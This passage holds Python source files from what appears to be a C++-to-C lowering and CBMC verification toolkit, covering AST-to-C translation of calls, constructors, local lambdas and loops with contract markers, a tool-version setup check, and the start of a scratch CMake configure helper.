                    raise Unsupported('call %s mapped to a constant has an operand with side effects' % key)
            return self.emitcall(rule, key, [], n, argn)
        if me.get('isArrow'):
            obj = self.expr(base)
        elif self.is_class(base) or (not callable(rule) and rule[0] in ('fnmut',)):
            obj = self.addr(base)
        else:
            obj = self.expr(base)
        refs = self.param_refs(me.get('type', {}).get('qualType', ''))
        args = [obj]
        for i, a in enumerate(argn):
            if a.get('kind') == 'CXXDefaultArgExpr':
                if not callable(rule) and rule[0] in ('callee', 'calleeret'):
                    args.append(self.default_arg(a))
                continue
            args.append(self.arg(a, byref=(i < len(refs) and refs[i] and not self.is_class(self.skip(a)))))
        if not callable(rule) and rule[0] == 'arg':
            return self.emitcall(rule, key, args, n, [base] + argn)
        return self.emitcall(rule, key, args, n, argn)

    def opcall(self, n):
        rd = self.callee_ref(n)
        sym = rd['name'].replace('operator', '')
        operands = n['inner'][1:]
        a0 = self.skip(operands[0])
        if sym == '()' and a0.get('kind') == 'DeclRefExpr' and a0['referencedDecl'].get('id') in self.local_lambdas:
            return self.call_local_lambda(n, rd, a0, operands[1:])
        t0 = self.tkey(a0)
        keys = []
        if len(operands) > 1:
            keys.append('op%s:%s:%s' % (sym, t0, self.tkey(self.skip(operands[1]))))
        keys.append('op%s:%s' % (sym, t0))
        key = next((k for k in keys if k in self.p.calls), None)
        if key is None and sym == '=' and len(operands) == 2 and not self.is_class(a0) and self.tkey(self.skip(operands[1])) == t0:
            # copy/move assignment of a class modelled as a C scalar
            self.fire('op=:scalar-model:' + t0)
            return '(%s = %s)' % (self.expr(a0), self.expr(operands[1]))
        if key is None:
            raise Unsupported('call ' + keys[0])
        rule = self.p.calls[key]
        if not callable(rule) and rule[0] == 'drop':
            return self.emitcall(rule, key, [], n, operands)
        refs = self.param_refs(rd.get('type', {}).get('qualType', ''))
        is_member = len(refs) == len(operands) - 1
        args = []
        for i, a in enumerate(operands):
            a1 = self.skip(a)
            if i == 0:
                args.append(self.addr(a1) if self.is_class(a1) else (self.addr(a1) if sym in ('++', '--', '+=', '-=', '=') else self.expr(a1)))
                continue
            ri = i - 1 if is_member else i
            byref = ri < len(refs) and refs[ri]
            args.append(self.arg(a1, byref=byref and not self.is_class(a1)))
        return self.emitcall(rule, key, args, n, operands[1:])

    def fncall(self, n):
        callee = self.skip(n['inner'][0])
        if callee.get('kind') == 'DeclRefExpr' and callee['referencedDecl']['id'] in self.locals:
            # call of a local lambda / function object through its variable
            return self.custom('call:local:' + callee['referencedDecl']['name'], n)
        rd = self.callee_ref(n)
        argn = n['inner'][1:]
        name = rd.get('name', '?')
        nargs = len([a for a in argn if a.get('kind') != 'CXXDefaultArgExpr'])
        keys = ['fn:%s/%d' % (name, nargs), 'fn:%s' % name]
        key = next((k for k in keys if k in self.p.calls), None)
        if key is None and nargs == 0 and name in ('max', 'min', 'lowest') and re.search(r'\(\)( const)?( noexcept)?$', rd.get('type', {}).get('qualType', '')):
            # std::numeric_limits<T>::max() / min() / lowest(): the limit of the (machine) result type
            lim = numeric_limit(dqt(n), name)
            if lim is not None:
                self.fire('numeric_limits:%s:%s' % (name, dqt(n)))
                return lim
        if key is None:
            raise Unsupported('call fn:%s/%d' % (name, nargs))
        rule = self.p.calls[key]
        if not callable(rule) and rule[0] == 'drop':
            return self.emitcall(rule, key, [], n, argn)
        if not callable(rule) and rule[0] == 'const':
            for a in argn:
                if not self.pure(a):
                    raise Unsupported('call %s mapped to a constant has an operand with side effects' % key)
            return self.emitcall(rule, key, [], n, argn)
        refs = self.param_refs(rd.get('type', {}).get('qualType', ''))
        args = []
        for i, a in enumerate(argn):
            if a.get('kind') == 'CXXDefaultArgExpr':
                args.append(self.default_arg(a))
                continue
            a1 = self.skip(a)
            args.append(self.arg(a1, byref=(i < len(refs) and refs[i] and not self.is_class(a1))))
        return self.emitcall(rule, key, args, n, argn)

    def ctor_key(self, n):
        t = self.ntype(n)
        argn = [a for a in n.get('inner', []) if a.get('kind') != 'CXXDefaultArgExpr']
        sigs = [self.tkey(self.skip(a)) for a in argn]
        return t, argn, 'ctor:%s(%s)' % (t, ','.join(sigs))

    def construct(self, n, target):
        t = self.ntype(n)
        if t not in self.p.class_types:
            return self.construct_value(n, t, target)
        t, argn, key = self.ctor_key(n)
        # copy / move construction of a modelled class from an lvalue or temporary of the same type
        if len(argn) == 1 and self.tkey(self.skip(argn[0])) == t and key not in self.p.calls:
            src = self.skip(argn[0])
            if n.get('isElidable') or src.get('kind') in ('CXXConstructExpr', 'CXXTemporaryObjectExpr'):
                return self.construct(src, target) if src.get('kind') in ('CXXConstructExpr', 'CXXTemporaryObjectExpr') else self._copy(t, src, target)
            return self._copy(t, src, target)
        rule = self.p.calls.get(key)
        if rule is None:
            raise Unsupported(key)
        self.fire(key)
        if callable(rule):
            return rule(self, n, target)
        dst = target or self.newtmp()
        if not target:
            self.pre.append('%s %s;' % (t, dst))
        if rule[0] == 'drop':
            self.dropped.append({'call': key, 'line': line_of(n)})
            return dst
        args = [self.arg(a) for a in argn]
        if rule[0] == 'zero':
            self.pre.append('memset(&%s, 0, sizeof(%s));' % (dst, dst))
            return dst
        if rule[0] == 'init':
            self.pre.append('%s = (%s)%s;' % (dst, t, rule[1].format(*args)))
            return dst
        self.pre.append('%s(&%s%s);' % (rule[1], dst, ''.join(', ' + a for a in args)))
        return dst

    def construct_value(self, n, t, target):
        """construction of a C++ class that is modelled as a C scalar (opaque string id, DOM node id, ...)"""
        argn = [a for a in n.get('inner', []) if a.get('kind') != 'CXXDefaultArgExpr']
        if t in self.p.string_types and argn and self.skip(argn[0]).get('kind') in ('StringLiteral', 'UserDefinedLiteral'):
            e = self.string_literal(argn[0])
        elif len(argn) == 1 and self.tkey(self.skip(argn[0])) == t:
            e = self.expr(argn[0])
        else:
            sigs = [self.tkey(self.skip(a)) for a in argn]
            key = 'ctor:%s(%s)' % (t, ','.join(sigs))
            rule = self.p.calls.get(key)
            if rule is None:
                if not argn:
                    self.fire('ctor:%s()=0' % t)
                    e = '((%s)0)' % t
                else:
                    raise Unsupported(key)
            else:
                self.fire(key)
                if callable(rule):
                    e = rule(self, n, [self.arg(a) for a in argn])
                elif rule[0] == 'expr':
                    e = '(' + rule[1].format(*[self.arg(a) for a in argn]) + ')'
                elif rule[0] == 'fn':
                    e = '%s(%s)' % (rule[1], ', '.join(self.arg(a) for a in argn))
                elif rule[0] == 'const':
                    e = rule[1]
                else:
                    raise Unsupported('rule kind %s for %s' % (rule[0], key))
        if target:
            self.pre.append('%s = %s;' % (target, e))
            return target
        return e

    def _copy(self, t, src, target):
        self.fire('copy:' + t)
        e = self.expr(src)
        if not target:
            # a copy of an lvalue that is only read: models are PODs, a struct copy is exact
            tmp = self.newtmp()
            self.pre.append('%s %s = %s;' % (t, tmp, e))
            return tmp
        self.pre.append('%s = %s;' % (target, e))
        return target

    # ------------------------------------------------------------------ local lambdas
    def lift_local_lambda(self, v, lam, sp):
        """`auto f = [captures](params) { body };` (non-generic, evaluated for its value only): the body becomes a C function
        <cname>__<f>(self?, params..., captured locals by address...); calls `f(args)` become calls of it.  Captures: `this`, locals by
        reference, const locals by copy (a snapshot of a const object equals the object).  Creating the closure has no side effect."""
        inner = [c for c in lam.get('inner', []) if isinstance(c, dict) and c.get('kind')]
        rec = [c for c in inner if c.get('kind') == 'CXXRecordDecl']
        if len(rec) != 1:
            raise Unsupported('local lambda without closure record')
        ops = [c for c in rec[0].get('inner', []) if c.get('kind') == 'CXXMethodDecl' and c.get('name') == 'operator()' and
               any(x.get('kind') == 'CompoundStmt' for x in c.get('inner', []))]
        if len(ops) != 1:
            raise Unsupported('local lambda %s is generic or has no body' % v.get('name'))
        op = ops[0]
        fields = [c for c in rec[0].get('inner', []) if c.get('kind') == 'FieldDecl']
        inits = [c for c in inner if c.get('kind') not in ('CXXRecordDecl', 'CompoundStmt')]
        if len(fields) != len(inits):
            raise Unsupported('local lambda %s: %d capture fields, %d capture initialisers' % (v.get('name'), len(fields), len(inits)))
        child = type(self)(op, '%s__%s' % (self.cname, v['name']), self.p, this_type=None, is_lambda=True)
        child.source_files = getattr(self, 'source_files', [])
        child.extra_flags = getattr(self, 'extra_flags', ())
        extra, call_args, captures_this = [], [], False
        for f, i in zip(fields, inits):
            i0 = self.skip(i)
            if i0.get('kind') == 'CXXThisExpr':
                captures_this = True
                continue
            if i0.get('kind') != 'DeclRefExpr' or i0['referencedDecl'].get('id') not in self.locals:
                raise Unsupported('local lambda %s captures something other than `this` or a local variable' % v.get('name'))
            rd = i0['referencedDecl']
            cn, ct, is_ref = self.locals[rd['id']]
            by_ref = qt(f).strip().endswith('&')
            if not by_ref and not re.match(r'\s*const\b', rd.get('type', {}).get('qualType', '')):
                raise Unsupported('local lambda %s captures the non-const local %s by copy' % (v.get('name'), rd.get('name')))
            pn = 'cap_' + cn
            child.names.add(pn)
            child.locals[rd['id']] = (pn, ct, True)
            extra.append('%s *%s' % (ct, pn))
            call_args.append(cn if is_ref else '&' + cn)
        if captures_this:
            if not self.this_type:
                raise Unsupported('local lambda captures `this` in a function lowered without one')
            child.this_type = self.this_type
            child.this_const = re.search(r'\)\s*const', qt(self.decl)) is not None if self.this_const is None else self.this_const
        child.loops = self.loops
        text = child.lower(extra)
        if child.loops != self.loops:
            raise Unsupported('loop inside the local lambda %s (loop contracts cannot be attached to a lifted function)' % v.get('name'))
        text = text.replace('/*@CONTRACT@*/\n', '')
        # accounting of the lifted body belongs to the enclosing function
        for k, n_ in child.fired.items():
            self.fired[k] = self.fired.get(k, 0) + n_
        self.dropped.extend(child.dropped)
        for et, names in child.need_enums.items():
            self.need_enums.setdefault(et, set()).update(names)
        self.need_globals.update(child.need_globals)
        for k, val in child.__dict__.items():
            if isinstance(val, set) and k not in ('names',) and isinstance(getattr(self, k, None), set):
                getattr(self, k).update(val)
        self.lifted.extend(child.lifted)
        self.lifted.append(text)
        self.local_lambdas[v['id']] = (child.cname, call_args, captures_this, child)
        self.fire('lambda:lifted-local')
        self.emit('%s/* local lambda %s lifted to %s */' % (sp, v['name'], child.cname))

    def call_local_lambda(self, n, rd, a0, argn):
        cname, cap_args, captures_this, child = self.local_lambdas[a0['referencedDecl']['id']]
        refs = self.param_refs(rd.get('type', {}).get('qualType', ''))
        args = ['self'] if captures_this else []
        ret_tmp = None
        if child.ret_class:
            ret_tmp = self.newtmp()
            self.pre.append('%s %s;' % (child.ret_ctype, ret_tmp))
            args.append('&' + ret_tmp)
        for i, a in enumerate(argn):
            if a.get('kind') == 'CXXDefaultArgExpr':
                args.append(self.default_arg(a))
                continue
            a1 = self.skip(a)
            args.append(self.arg(a1, byref=(i < len(refs) and refs[i] and not self.is_class(a1))))
        self.fire('lambda:call-lifted-local')
        call = '%s(%s)' % (cname, ', '.join(args + cap_args))
        if ret_tmp:
            self.pre.append(call + ';')
            return ret_tmp
        return call

    # ------------------------------------------------------------------ statements
    def flush(self, sp):
        for p in self.pre:
            self.emit(sp + p)
        self.pre = []

    def emit(self, line):
        for h in self.p.hooks:
            if h.get('fn') in (None, self.cname) and h.get('before') and re.search(h['before'], line):
                ind = re.match(r'\s*', line).group(0)
                self.out.append(ind + '/* ghost hook %s */ ' % h['id'] + h['emit'])
                self.hook_fired[h['id']] = self.hook_fired.get(h['id'], 0) + 1
        self.out.append(line)
        for h in self.p.hooks:
            if h.get('fn') in (None, self.cname) and h.get('after') and re.search(h['after'], line):
                ind = re.match(r'\s*', line).group(0)
                self.out.append(ind + '/* ghost hook %s */ ' % h['id'] + h['emit'])
                self.hook_fired[h['id']] = self.hook_fired.get(h['id'], 0) + 1

    def declare_local(self, v, sp, is_ref=False, ctype=None):
        name = v['name']
        cn = name
        i = 1
        while cn in self.names:
            i += 1
            cn = '%s_%d' % (name, i)
        self.names.add(cn)
        ct = ctype or self.ntype(v)
        self.locals[v['id']] = (cn, ct, is_ref)
        return cn, ct

    def stmt(self, n, ind):
        k = n.get('kind')
        sp = '  ' * ind
        self.pre = []
        if k == 'CompoundStmt':
            self.emit(sp + '{')
            for c in n.get('inner', []):
                self.stmt(c, ind + 1)
            self.emit(sp + '}')
            return
        if k == 'DeclStmt':
            for v in n['inner']:
                self.vardecl(v, sp)
            return
        if k == 'IfStmt':
            self.ifstmt(n, ind)
            return
        if k == 'WhileStmt':
            self.loop(None, n['inner'][0], None, n['inner'][1], ind)
            return
        if k == 'DoStmt':
            raise Unsupported('do-while')
        if k == 'ForStmt':
            init, _cv, cond, inc, body = n['inner']
            self.emit(sp + '{')
            if init.get('kind'):
                self.stmt(init, ind + 1)
            self.loop(None, cond if cond.get('kind') else None, inc if inc.get('kind') else None, body, ind + 1)
            self.emit(sp + '}')
            return
        if k == 'CXXForRangeStmt':
            self.rangefor(n, ind)
            return
        if k == 'SwitchStmt':
            self.switch(n, ind)
            return
        if k == 'ReturnStmt':
            self.ret(n, sp)
            return
        if k == 'ContinueStmt':
            self.emit(sp + 'continue;')
            return
        if k == 'BreakStmt':
            self.emit(sp + 'break;')
            return
        if k == 'NullStmt':
            return
        if k in ('CaseStmt', 'DefaultStmt'):
            raise Unsupported('case label outside switch body')
        if k == 'AttributedStmt':
            self.stmt(n['inner'][-1], ind)
            return
        e = self.expr(n)
        self.flush(sp)
        if e not in ('((void)0)',) and not re.fullmatch(r'_t\d+', e):
            self.emit('%s%s;' % (sp, e))

    def vardecl(self, v, sp):
        if v.get('kind') == 'DecompositionDecl':
            return self.decomposition(v, sp)
        if v.get('kind') in ('TypedefDecl', 'TypeAliasDecl', 'UsingDecl', 'StaticAssertDecl'):
            return
        if v.get('kind') != 'VarDecl':
            raise Unsupported('declaration kind %s' % v.get('kind'))
        if v.get('storageClass') == 'static':
            return self.static_local(v, sp)
        t = qt(v)
        init = [c for c in v.get('inner', []) if isinstance(c, dict) and 'kind' in c and not c['kind'].endswith('Attr')]
        if init and self.skip(init[0]).get('kind') == 'LambdaExpr' and 'expr:LambdaExpr' not in self.p.calls and \
                type(self).lambda_expr is Lowerer.lambda_expr and not t.strip().endswith('&'):
            return self.lift_local_lambda(v, self.skip(init[0]), sp)
        is_ref = t.strip().endswith('&')
        if is_ref:
            i0 = self.skip(init[0])
            if self.is_class(i0) or not re.match(r'\s*const\b', t) or i0.get('kind') in ('DeclRefExpr', 'MemberExpr'):
                # reference local: pointer to the referenced object (a temporary is materialised first)
                a = self.addr(i0)
                self.flush(sp)
                cn, ct = self.declare_local(v, sp, is_ref=True)
                self.emit('%s%s%s *%s = %s;' % (sp, 'const ' if re.match(r'\s*const\b', t) else '', ct, cn, a))
                return
            is_ref = False
        ct = self.ntype(v)
        if not init:
            cn, ct = self.declare_local(v, sp)
            if ct in self.p.class_types:
                rule = self.p.calls.get('ctor:%s()' % ct)
                if rule is None:
                    raise Unsupported('ctor:%s()' % ct)
                self.fire('ctor:%s()' % ct)
                self.emit('%s%s %s;' % (sp, ct, cn))
                if rule[0] == 'zero':
                    self.emit('%smemset(&%s, 0, sizeof(%s));' % (sp, cn, cn))
                elif rule[0] != 'drop':
                    self.emit('%s%s(&%s);' % (sp, rule[1], cn))
            else:
                self.emit('%s%s %s;' % (sp, ct, cn))
            return
        i0 = self.skip(init[0])
        if ct not in self.p.class_types and i0.get('kind') in ('CXXConstructExpr', 'CXXTemporaryObjectExpr'):
            e = self.construct_value(i0, ct, None)
            self.flush(sp)
            cn, ct = self.declare_local(v, sp)
            self.emit('%s%s %s = %s;' % (sp, ct, cn, e))
            return
        if ct in self.p.class_types:
            # the local is declared first, then constructed in place
            tmpname = '__pending__'
            if i0.get('kind') in ('CXXConstructExpr', 'CXXTemporaryObjectExpr') and self.ntype(i0) == ct:
                self.construct(i0, tmpname)
            else:
                e = self.expr(i0)
                self.pre.append('%s = %s;' % (tmpname, e))
            cn, ct = self.declare_local(v, sp)
            pre = [p.replace(tmpname, cn) for p in self.pre]
            self.pre = []
            self.emit('%s%s %s;' % (sp, ct, cn))
            for p_ in pre:
                self.emit(sp + p_)
            return
        if i0.get('kind') == 'InitListExpr' and '[' in qt(v):
            raise Unsupported('array initialiser')
        e = self.expr(i0)
        self.flush(sp)
        cn, ct = self.declare_local(v, sp)
        self.emit('%s%s %s = %s;' % (sp, ct, cn, e))

    def static_local(self, v, sp):
        return self.custom_stmt('static:' + v['name'], v, sp)

    def custom_stmt(self, key, n, sp):
        rule = self.p.calls.get(key)
        if rule is None:
            raise Unsupported(key)
        self.fire(key)
        return rule(self, n, sp)

    def decomposition(self, v, sp):
        return self.custom_stmt('decomposition:' + strip_type(qt(v)), v, sp)

    def cond_with_decl(self, n):
        """`if (auto x = f())` / `if (init; cond)`: returns (list of init stmts already emitted?, cond node)"""
        return None

    def ifstmt(self, n, ind):
        sp = '  ' * ind
        inner = list(n['inner'])
        opened = False
        if n.get('hasInit'):
            self.emit(sp + '{')
            opened = True
            self.stmt(inner.pop(0), ind + 1)
            ind += 1
            sp = '  ' * ind
        if n.get('hasVar'):
            if not opened:
                self.emit(sp + '{')
                opened = True
                ind += 1
                sp = '  ' * ind
            self.stmt(inner.pop(0), ind)
        self.pre = []
        c = self.expr(inner[0])
        self.flush(sp)
        self.emit('%sif (%s)' % (sp, c))
        self.block(inner[1], ind)
        if len(inner) > 2:
            els = inner[2]
            if els.get('kind') == 'IfStmt' and not els.get('hasInit') and not els.get('hasVar') and self.cond_is_simple(els['inner'][0]):
                # else-if chain: keep it flat (same control flow)
                self.emit(sp + 'else')
                self.ifstmt(els, ind)
            else:
                self.emit(sp + 'else')
                self.block(els, ind)
        if opened:
            self.emit('  ' * (ind - 1) + '}')

    def cond_is_simple(self, c):
        """true if lowering the condition needs no pre-statements (so `else if` may stay flat)"""
        saved_pre, saved_tmp, saved_fired, saved_dropped = self.pre, self.tmp, dict(self.fired), list(self.dropped)
        saved_eg = ({k: set(v) for k, v in self.need_enums.items()}, dict(self.need_globals), set(self.repo_callees))
        self.pre = []
        try:
            self.expr(c)
            simple = not self.pre
        except Unsupported:
            simple = False
        self.pre, self.tmp, self.fired, self.dropped = saved_pre, saved_tmp, saved_fired, saved_dropped
        self.need_enums, self.need_globals, self.repo_callees = saved_eg
        return simple

    def loop(self, pre_decl, cond, inc, body, ind):
        sp = '  ' * ind
        self.pre = []
        c = self.expr(cond) if cond else '1'
        cpre = self.pre
        self.pre = []
        i = self.expr(inc) if inc else ''
        ipre = self.pre
        self.pre = []
        num = self.loops
        self.loops += 1
        if not cpre and not ipre:
            if inc is None and cond is not None:
                self.emit('%swhile (%s)' % (sp, c))
            else:
                self.emit('%sfor (; %s; %s)' % (sp, c, i))
            self.emit('%s/*@LOOP%d@*/' % (sp, num))
            self.block(body, ind)
            return
        if ipre:
            raise Unsupported('loop increment needs temporaries')
        # condition needs temporaries: evaluate it at the top of every iteration
        self.emit('%sfor (; 1; %s)' % (sp, i))
        self.emit('%s/*@LOOP%d@*/' % (sp, num))
        self.emit(sp + '{')
        for p_ in cpre:
            self.emit(sp + '  ' + p_)
        self.emit('%s  if (!(%s)) break;' % (sp, c))
        self.block(body, ind + 1)
        self.emit(sp + '}')

    def rangefor(self, n, ind):
        inner = n['inner']
        # [init, range decl, begin decl, end decl, cond, inc, loop var decl, body]
        init, rng, beg, end, cond, inc, lv, body = inner
        sp = '  ' * ind
        self.emit(sp + '{')
        if init.get('kind'):
            self.stmt(init, ind + 1)
        rv = rng['inner'][0]
        rinit = self.skip([c for c in rv['inner'] if isinstance(c, dict) and 'kind' in c][0])
        key = 'rangefor:' + self.tkey(rinit)
        rule = self.p.calls.get(key)
        if rule is None:
            raise Unsupported(key)
        self.fire(key)
        rule(self, n, rinit, lv, body, ind + 1)
        self.emit(sp + '}')

    def switch(self, n, ind):
        sp = '  ' * ind
        inner = list(n['inner'])
        if n.get('hasInit') or n.get('hasVar'):
            raise Unsupported('switch with init')
        self.pre = []
        c = self.expr(inner[0])
        self.flush(sp)
        self.emit('%sswitch (%s)' % (sp, c))
        body = inner[1]
        self.emit(sp + '{')
        for st in body.get('inner', []):
            self.case_stmt(st, ind + 1)
        self.emit(sp + '}')

    def case_stmt(self, st, ind):
        sp = '  ' * ind
        k = st.get('kind')
        if k == 'CaseStmt':
            ce = st['inner'][0]
            v = ce.get('value')
            if v is None:
                v = self.expr(ce)
            self.emit('%scase %s:' % (sp, v))
            self.case_stmt(st['inner'][-1], ind)
            return
        if k == 'DefaultStmt':
            self.emit(sp + 'default:')
            self.case_stmt(st['inner'][-1], ind)
            return
        self.stmt(st, ind + 1)

    def ret(self, n, sp):
        if not n.get('inner'):
            self.emit(sp + 'return;')
            return
        v = self.skip(n['inner'][0])
        if self.ret_class:
            # by-value class return: write through the out parameter
            if v.get('kind') in ('CXXConstructExpr', 'CXXTemporaryObjectExpr'):
                self.construct(v, '(*_ret)')
            else:
                e = self.expr(v)
                self.pre.append('*_ret = %s;' % e)
            self.flush(sp)
            self.emit(sp + 'return;')
            return
        e = self.expr(v)
        self.flush(sp)
        if self.ret_ctype == 'void':
            self.emit('%s%s;' % (sp, e))
            self.emit(sp + 'return;')
        else:
            self.emit('%sreturn %s;' % (sp, e))

    def block(self, n, ind):
        if n.get('kind') == 'CompoundStmt':
            self.stmt(n, ind)
        else:
            self.emit('  ' * ind + '{')
            self.stmt(n, ind + 1)
            self.emit('  ' * ind + '}')

    # ------------------------------------------------------------------ function
    def lower(self, extra_params=()):
        d = self.decl
        params = []
        if self.this_type:
            const = re.search(r'\)\s*const', qt(d)) is not None if self.this_const is None else self.this_const
            params.append('%s%s *self' % ('const ' if const else '', self.this_type))
        body = None
        for c in d['inner']:
            if c['kind'] == 'ParmVarDecl':
                t = qt(c)
                if not c.get('name'):
                    try:
                        self.ntype(c)
                    except Unsupported:
                        # unnamed (hence unused) parameter of a type the unit does not model
                        params.append('const void *_unused%d' % len(params))
                        self.fire('param:unused-unmodelled')
                        continue
                ct = self.ntype(c)
                name = c.get('name') or ('_unnamed%d' % len(params))
                c = dict(c, name=name)
                is_const = re.match(r'\s*const\b', t) is not None
                if ct not in self.p.class_types and t.strip().endswith('&') and is_const and not ct.endswith('*'):
                    # const reference to a class modelled as a C scalar (opaque id): pass by value
                    cn, _ = self.declare_local(c, '')
                    params.append('%s %s' % (ct, cn))
                elif t.strip().endswith('&') or (ct in self.p.class_types):
                    # references and by-value class parameters are passed by address
                    byval = not t.strip().endswith('&')
                    cn, _ = self.declare_local(c, '', is_ref=True, ctype=ct)
                    params.append('%s%s *%s' % ('const ' if is_const and not byval else '', ct, cn))
                else:
                    cn, _ = self.declare_local(c, '')
                    params.append('%s %s' % (ct, cn))
            elif c['kind'] == 'CompoundStmt':
                body = c
        params.extend(extra_params)
        self.param_names = set(self.names)
        rett = return_type_of(qt(d))
        if self.decl.get('kind') in ('CXXConstructorDecl', 'CXXDestructorDecl'):
            rett = 'void'
        self.ret_ctype = self.ctype(rett)
        if self.ret_ctype in self.p.class_types:
            self.ret_class = True
            params.insert(1 if self.this_type else 0, '%s *_ret' % self.ret_ctype)
            sig_ret = 'void'
        else:
            sig_ret = self.ret_ctype
        self.signature = '%s %s(%s)' % (sig_ret, self.cname, ', '.join(params) if params else 'void')
        self.out.append(self.signature)
        self.out.append('/*@CONTRACT@*/')
        self.stmt(body, 0)
        for h in self.p.hooks:
            if h.get('fn') in (None, self.cname) and self.hook_fired.get(h['id'], 0) != h.get('count', 1):
                raise Unsupported('ghost hook %s matched %d times (expected %d)' % (h['id'], self.hook_fired.get(h['id'], 0), h.get('count', 1)))
        return '\n'.join(self.out)


def rangefor_indexed(size_tmpl, elem_tmpl, index_type='int'):
    """rule factory for `for (T x : container)` over an indexable model: clang's desugaring
    (__begin != __end; ++__begin; x = *__begin) becomes an index loop over the model's size/element accessors.
    Templates take {r} = address (class model) or value (scalar model) of the range object and {i} = the index."""
    def rule(lw, n, rinit, lv, body, ind):
        sp = '  ' * ind
        r = lw.addr(rinit) if lw.is_class(rinit) else lw.expr(rinit)
        lw.flush(sp)
        num = lw.loops
        lw.loops += 1
        idx = '__i%d' % num
        lw.names.add(idx)
        v = lv['inner'][0]
        vt = qt(v)
        lw.emit('%s%s %s = 0;' % (sp, index_type, idx))
        lw.emit('%sfor (; %s < %s; %s++)' % (sp, idx, size_tmpl.format(r=r), idx))
        lw.emit('%s/*@LOOP%d@*/' % (sp, num))
        lw.emit(sp + '{')
        elem = elem_tmpl.format(r=r, i=idx)
        if vt.strip().endswith('&') and lw.is_class(v):
            cn, ct = lw.declare_local(v, sp, is_ref=True)
            lw.emit('%s  %s%s *%s = %s;' % (sp, 'const ' if re.match(r'\s*const\b', vt) else '', ct, cn, Lowerer.addr_of(elem)))
        else:
            cn, ct = lw.declare_local(v, sp)
            lw.emit('%s  %s %s = %s;' % (sp, ct, cn, elem))
        lw.block(body, ind + 1)
        lw.emit(sp + '}')
    return rule


# ---------------------------------------------------------------------- helpers
def return_type_of(sig):
    """return type of a function type string `RET (PARAMS) quals`: the text before the first '(' that is not inside
    template angle brackets (a return type such as std::function<void (A &, B *)> contains parentheses itself)"""
    d = 0
    for i, ch in enumerate(sig):
        if ch == '<':
            d += 1
        elif ch == '>':
            d -= 1
        elif ch == '(' and d == 0:
            return sig[:i].strip()
    return sig.split('(')[0].strip()


def balanced(s):
    d = 0
    for ch in s:
        if ch == '(':
            d += 1
        elif ch == ')':
            d -= 1
            if d < 0:
                return False
    return d == 0 and re.fullmatch(r'[\w\.\->\[\]\(\)\* ]+', s) is not None and not re.search(r'[^\w\)\]]\*|^\*', s.replace('->', '__'))


def strip_amp(a):
    return a[1:] if a.startswith('&') and not a.startswith('&&') else '(*%s)' % a


def split_top(s):
    out = []
    d = 0
    cur = ''
    for ch in s:
        if ch in '<(':
            d += 1
        elif ch in '>)':
            d -= 1
        if ch == ',' and d == 0:
            out.append(cur)
            cur = ''
        else:
            cur += ch
    if cur.strip():
        out.append(cur)
    return out


def enum_cname(etype, name):
    return re.sub(r'\W+', '_', etype) + '__' + name


def line_of(n):
    def line(loc):
        for k in ('expansionLoc', 'spellingLoc'):
            if k in loc:
                loc = loc[k]
                break
        return loc.get('line')
    r = n.get('range', {})
    return line(r.get('begin', {}))


def find_string(n):
    if n.get('kind') == 'StringLiteral':
        v = n.get('value', '')
        m = re.match(r'^(u8|u|U|L)?"(.*)"$', v, re.S)
        if m:
            try:
                return bytes(m.group(2), 'utf-8').decode('unicode_escape').encode('latin-1', 'ignore').decode('utf-8', 'replace') if '\\' in m.group(2) else m.group(2)
            except Exception:
                return m.group(2)
        return v
    for c in n.get('inner', []):
        if isinstance(c, dict):
            s = find_string(c)
            if s is not None:
                return s
    return None


class LoopMismatch(Unsupported):
    pass


def numeric_limit(ctype_name, which):
    t = strip_type(ctype_name)
    bits = {'char': 8, 'signed char': 8, 'unsigned char': 8, 'short': 16, 'unsigned short': 16, 'int': 32, 'unsigned int': 32,
            'long': 64, 'unsigned long': 64, 'long long': 64, 'unsigned long long': 64}.get(t)
    if bits is None:
        return None
    unsigned = t.startswith('unsigned')
    if which == 'max':
        v = (1 << bits) - 1 if unsigned else (1 << (bits - 1)) - 1
        suf = ('u' if unsigned else '') + ('l' if bits == 64 else '')
        return '((%s)%d%s)' % (SCALARS.get(t, t), v, suf)
    if unsigned:
        return '((%s)0)' % SCALARS.get(t, t)
    return '((%s)(-%d%s - 1))' % (SCALARS.get(t, t), (1 << (bits - 1)) - 1, 'l' if bits == 64 else '')


def apply_splices(text, contract, loops):
    """insert the unit's contract clauses at the markers; every provided loop spec must find its marker, and every loop of
    the lowered function must have a spec when any loop spec is given (otherwise the loop structure has changed)"""
    if '/*@CONTRACT@*/' not in text:
        raise Unsupported('no contract marker')
    text = text.replace('/*@CONTRACT@*/', contract or '', 1)
    for num, spec in (loops or {}).items():
        m = '/*@LOOP%d@*/' % num
        if m not in text:
            raise LoopMismatch('contract names loop %d which does not exist in the lowered function (renamed/restructured code)' % num)
        text = text.replace(m, spec, 1)
    return text
