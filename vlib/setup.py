"""verif setup: offline sanity check of the tool chain; nothing is fetched or built outside scratch."""
import subprocess, sys, os, compileall, shutil


def main():
    ok = True
    for tool, arg, want in (('cbmc', '--version', '6.'), ('goto-cc', '--version', '6.'), ('goto-instrument', '--version', '6.'),
                            ('clang++', '--version', 'clang version 14'), ('cmake', '--version', 'cmake'), ('ninja', '--version', '')):
        p = shutil.which(tool)
        if not p:
            print('MISSING tool', tool)
            ok = False
            continue
        out = subprocess.run([tool, arg], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True).stdout
        if want not in out:
            print('unexpected version of %s: %s' % (tool, out.splitlines()[0] if out else ''))
    here = os.path.dirname(os.path.abspath(__file__))
    compileall.compile_dir(here, quiet=1)
    for d in ('evidence', 'replays'):
        os.makedirs(os.path.join(os.path.dirname(here), d), exist_ok=True)
    print('setup ok' if ok else 'setup FAILED')
    return 0 if ok else 1
