"""Scratch cmake configure of /repo's working tree: regenerates qxmpp_export.h and reads the exact
compile flags of every TU from compile_commands.json.  Nothing is taken from /repo/_build."""
import json, os, shlex, subprocess, tempfile, shutil, atexit

REPO = os.environ.get('VERIF_REPO', '/repo')
_cfg = None


class ConfigureError(Exception):
    pass


def scratch_root():
    """one scratch directory per process, outside /repo and /verif, removed at exit"""
    global _scratch
    try:
        return _scratch
    except NameError:
        pass
    base = os.environ.get('VERIF_SCRATCH_BASE', tempfile.gettempdir())
    _scratch = tempfile.mkdtemp(prefix='qxverif-', dir=base)
    if not os.environ.get('VERIF_KEEP'):
        atexit.register(lambda: shutil.rmtree(_scratch, ignore_errors=True))
    return _scratch


import threading
_cfg_lock = threading.Lock()


def configure():
    """returns {'dir': build dir, 'flags': {abs source file: [clang flags]}}; thread-safe (units prefetch ASTs in parallel:
    two concurrent first calls used to run cmake twice into the same directory, and a clang that read the half-written
